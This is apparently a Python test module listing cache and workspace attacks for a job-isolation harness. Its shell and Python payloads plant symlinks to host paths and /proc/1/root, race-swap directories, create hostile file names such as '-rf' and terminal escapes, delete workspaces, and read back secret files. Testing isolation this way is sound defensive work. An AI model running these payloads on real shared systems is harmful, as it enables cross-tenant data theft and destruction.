"""Attacks through caches: a job of a project leaves files for the next one, and for readers."""

from .attack import Attack

READS = """
for d in $HF $CACHE/huggingface $P $CACHE; do
  ls -la $d; touch $d/$MARK; rm -f $d/$MARK
  for f in $d/* $d/*/*; do test -f "$f" && cat "$f"; done 2>/dev/null | head -c 100000
done; true
"""

CACHES = (
    Attack(
        "cache-link-to-host",
        """
        for n in huggingface user_artifacts team_artifacts; do
          rm -rf $CACHE/$n; mv $CACHE/$n $CACHE/old-$n; ln -s $HOST $CACHE/$n
        done; ln -s $HOST $P/link; ln -s $HOST/secret $HF/link; true
        """,
        then=READS,
    ),
    Attack(
        "cache-links-elsewhere",
        """
        rm -rf $CACHE/huggingface $CACHE/user_artifacts 2>/dev/null
        ln -s /.prefect-bt $CACHE/huggingface; ln -s user_artifacts $CACHE/user_artifacts
        ln -s /proc/1/root $P/a; ln -s ../../../../.. $P/b; ln -s . $P/c; ln -s c/c/c/c/c/c $P/d
        ln -s /dev/zero $P/e; true
        """,
        then=READS,
    ),
    Attack(
        "cache-names-and-kinds",
        python="""
        socket.socket(socket.AF_UNIX).bind(str(P / f"socket-{JOB}"))
        for folder in (P, Path(E["CACHE"]), Path(E["HF"])):
            with suppress(FileExistsError):
                os.mkfifo(folder / "pipe")
            for name in (b"\\x1b]0;x\\x07", b"a\\nb", b"\\xff", b"-rf", b"\\xe2\\x80\\xae", b"=1+1", b"@x", b"x" * 255):
                Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("x")
            os.utime(folder / "-rf", ns=(-(10**18), 2**62))
            (folder / "sparse").touch()
            os.truncate(folder / "sparse", 2**42)
            (folder / "closed").mkdir(exist_ok=True)
            os.chmod(folder / "closed", 0)
            os.chdir(folder)
            for _ in range(600):
                os.makedirs("deeper", exist_ok=True), os.chdir("deeper")
        """,
        then=READS,
    ),
    Attack(
        "cache-swapped-while-used",
        python="""
        place = P / f"swap-{JOB}"
        (place / "a").mkdir(parents=True)
        (place / "a/secret").write_text("mine")
        (place / "b").symlink_to(HOST)
        up()
        while True:
            for _ in range(100):
                exchange(place / "a", place / "b")
            time.sleep(0.01)
        """,
        endless=True,
    ),
    Attack(
        "hub-cache",
        """
        d=$HF/hub/models--a--b; mkdir -p $d/refs $d/snapshots $d/blobs
        echo ../../../../../.. > $d/refs/main; ln -sf $HOST $d/snapshots/x; ln -sf $HOST/secret $d/blobs/y
        ln -sf ../../../../../../../../../../../../../../..$HOST $d/snapshots/z; true
        """,
        then=READS,
    ),
    Attack(
        "workspace-replaced",
        """
        rm -rf $W; mv $W /tmp/w; ln -s $HOST $W; rm -rf $W/*; ln -s $HOST $W/attacks
        ln -s $HOST/secret $W/config.py; mkdir $W/run.sh; ln -s $HOST $S/workspace; exit 1
        """,
        again="ls -la $W; cat $W/config.py | head -3; exit 1",
        alone=True,
    ),
    Attack(
        "scratch-left-behind",
        """
        for d in $S $W; do
          ln -s $HOST $d/host; ln -s / $d/root; mkdir -p $d/closed/below; touch $d/closed/below/x
          mkfifo $d/pipe; chmod 000 $d/closed/below $d/closed; ln -s $HOST $d/closed-link
        done
        chmod 000 $S; true
        """,
        alone=True,
    ),
)
